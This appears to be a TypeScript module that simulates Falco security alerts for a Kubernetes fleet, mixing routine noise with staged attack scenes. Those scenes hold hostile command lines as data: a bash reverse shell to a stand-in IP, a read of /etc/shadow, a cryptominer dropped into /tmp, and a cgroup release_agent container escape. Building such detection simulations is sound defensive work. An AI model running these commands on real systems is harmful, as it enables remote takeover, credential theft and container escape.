import type { SimulatedRule, Value } from './falco-line.ts';
import type { Fleet, SimulatedPod } from './fleet.ts';
import type { Random } from './random.ts';
import { RULES } from './rules.ts';

/** What one process did, without time. `afterMs` from the beginning of its scene. */
export interface Act {
  readonly rule: SimulatedRule;
  readonly node: string;
  readonly pod?: SimulatedPod;
  readonly afterMs: number;
  readonly values: Readonly<Record<string, Value>>;
}

/** Something that happens again and again: first after `firstMs`, then every `everyMs`, give or take a quarter. */
export interface Scene {
  readonly name: string;
  readonly isAttack: boolean;
  readonly firstMs: number;
  readonly everyMs: number;
  readonly play: () => readonly Act[];
}

const SECOND = 1_000;
const MINUTE = 60 * SECOND;
const LOWER = 'EXE_WRITABLE|EXE_LOWER_LAYER';
const DROPPED = 'EXE_WRITABLE|EXE_UPPER_LAYER';

/** A usual day: controllers, health checks, the container runtime, builds, backups. And what should stand out of it. */
export function createScenes(fleet: Fleet, random: Random): readonly Scene[] {
  return [...noise(fleet, random), ...attacks(fleet, random)];
}

function noise(fleet: Fleet, random: Random): Scene[] {
  const repeat = (name: string, firstMs: number, everyMs: number, play: Scene['play']): Scene => ({
    name,
    isAttack: false,
    firstMs,
    everyMs,
    play,
  });
  return [
    ...(['cert-manager', 'velero', 'prometheus'] as const).map((workload, i) =>
      repeat(`${workload} calls the API server`, (2 + i) * SECOND, (8 + 3 * i) * SECOND, () => {
        const pod = random.pick(fleet.of(workload));
        return [
          act(RULES.apiServer, pod, {
            ...process(workload, `/usr/bin/${workload}`, workload, 'containerd-shim', 65532),
            ...connection(random, '10.96.0.1', 443),
          }),
        ];
      }),
    ),
    repeat('health check runs a shell', 4 * SECOND, 6 * SECOND, () => {
      const pod = random.pick(fleet.of('orders-db'));
      return [
        act(RULES.shellUntrusted, pod, {
          ...process('sh', '/bin/dash', 'sh -c pg_isready -q', 'postgres', 999),
          'proc.pcmdline': 'postgres',
          'evt.arg.flags': LOWER,
        }),
      ];
    }),
    repeat('container runtime runs itself from memory', 5 * SECOND, 20 * SECOND, () => [
      {
        rule: RULES.memfd,
        node: random.pick(fleet.nodes),
        afterMs: 0,
        values: {
          ...process(
            '.runc',
            'memfd:runc',
            '.runc --root /run/containerd/runc/k8s.io --log /run/log.json state',
            'containerd-shim',
            0,
          ),
          'proc.cwd': '/',
          'evt.res': 'SUCCESS',
          'evt.arg.flags': 'EXE_WRITABLE|EXE_FROM_MEMFD',
        },
      },
    ]),
    repeat('backup reads the accounts', 40 * SECOND, 5 * MINUTE, () => {
      const pod = random.pick(fleet.of('nightly-backup'));
      return [
        act(RULES.sensitiveFile, pod, {
          ...process('tar', '/bin/tar', 'tar -C /host -czf - etc', 'sh', 0),
          'evt.type': 'openat',
          'fd.name': '/etc/shadow',
        }),
      ];
    }),
    repeat('build installs packages', 25 * SECOND, 90 * SECOND, () => {
      const pod = random.pick(fleet.of('build-4711'));
      return ['git', 'make', 'gcc'].map((name, i) =>
        act(
          RULES.packages,
          pod,
          { ...process('apk', '/sbin/apk', `apk add ${name}`, 'sh', 0), 'evt.arg.flags': LOWER },
          i * 700,
        ),
      );
    }),
    repeat('somebody works in a notebook', 70 * SECOND, 4 * MINUTE, () => {
      const pod = random.pick(fleet.of('notebook'));
      return [
        act(RULES.terminalShell, pod, {
          ...process('bash', '/bin/bash', 'bash', 'jupyter-lab', 1000, 34816),
          'evt.arg.flags': LOWER,
        }),
      ];
    }),
  ];
}

function attacks(fleet: Fleet, random: Random): Scene[] {
  const attack = (name: string, firstMs: number, play: Scene['play']): Scene => ({
    name,
    isAttack: true,
    firstMs,
    everyMs: 30 * MINUTE,
    play,
  });
  return [
    attack('reverse shell out of the web shop', 90 * SECOND, () => {
      const pod = random.pick(fleet.of('storefront'));
      const shell = {
        ...process('bash', '/bin/bash', 'bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1', 'node', 1000),
        'evt.arg.flags': LOWER,
      };
      return [
        act(RULES.shellUntrusted, pod, { ...shell, 'proc.pcmdline': 'node server.js' }),
        act(RULES.redirect, pod, { ...shell, 'evt.type': 'dup2', ...connection(random, '203.0.113.66', 4444) }, 40),
        act(
          RULES.sensitiveFile,
          pod,
          {
            ...process('cat', '/bin/cat', 'cat /etc/shadow', 'bash', 1000),
            'evt.type': 'openat',
            'fd.name': '/etc/shadow',
          },
          9 * SECOND,
        ),
      ];
    }),
    attack('miner dropped into the thumbnailer', 3 * MINUTE, () => {
      const pod = random.pick(fleet.of('thumbnailer'));
      const path = `/tmp/.${random.hex(6)}/kthreadd`;
      const start = BigInt(pod.startedAt) * 1_000_000n;
      const miner = {
        ...process('kthreadd', path, `${path} -o stratum+tcp://pool.example:3333 -u wallet`, 'sh', 1000),
        'evt.arg.flags': DROPPED,
      };
      return [
        act(RULES.drop, pod, { ...miner, 'proc.exe': path, 'proc.cwd': '/tmp/', 'container.start_ts': start }),
        act(RULES.miner, pod, miner, 2),
      ];
    }),
    attack('escape through release_agent', 6 * MINUTE, () => {
      const pod = random.pick(fleet.of('notebook'));
      return [
        act(RULES.releaseAgent, pod, {
          ...process('sh', '/bin/dash', 'sh -c echo /cmd > /tmp/cgrp/release_agent', 'bash', 0, 34816),
          'evt.type': 'openat',
          'fd.name': '/tmp/cgrp/release_agent',
          'thread.cap_effective': 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN',
        }),
      ];
    }),
    attack('program from memory in the checkout', 8 * MINUTE, () => {
      const pod = random.pick(fleet.of('checkout'));
      return [
        act(RULES.memfd, pod, {
          ...process('3', 'memfd:', '/proc/self/fd/3', 'python3', 1000),
          'proc.cwd': '/app/',
          'evt.res': 'SUCCESS',
          'evt.arg.flags': 'EXE_WRITABLE|EXE_FROM_MEMFD',
        }),
      ];
    }),
  ];
}

function act(rule: SimulatedRule, pod: SimulatedPod, values: Act['values'], afterMs = 0): Act {
  return { rule, node: pod.node, pod, afterMs, values };
}

function process(
  name: string,
  path: string,
  command: string,
  parent: string,
  uid: number,
  tty = 0,
): Record<string, Value> {
  return {
    'evt.type': 'execve',
    'user.name': uid === 0 ? 'root' : null,
    'user.uid': uid,
    'user.loginuid': -1,
    'proc.name': name,
    'proc.exepath': path,
    'proc.pname': parent,
    'proc.cmdline': command,
    'proc.tty': tty,
  };
}

function connection(random: Random, server: string, port: number): Record<string, Value> {
  const from = random.between(32_768, 61_000);
  return {
    'evt.type': 'connect',
    'fd.name': `10.244.${random.between(0, 3)}.${random.between(2, 250)}:${from}->${server}:${port}`,
    'fd.lport': from,
    'fd.rport': port,
    'fd.type': 'ipv4',
    'fd.l4proto': 'tcp',
  };
}
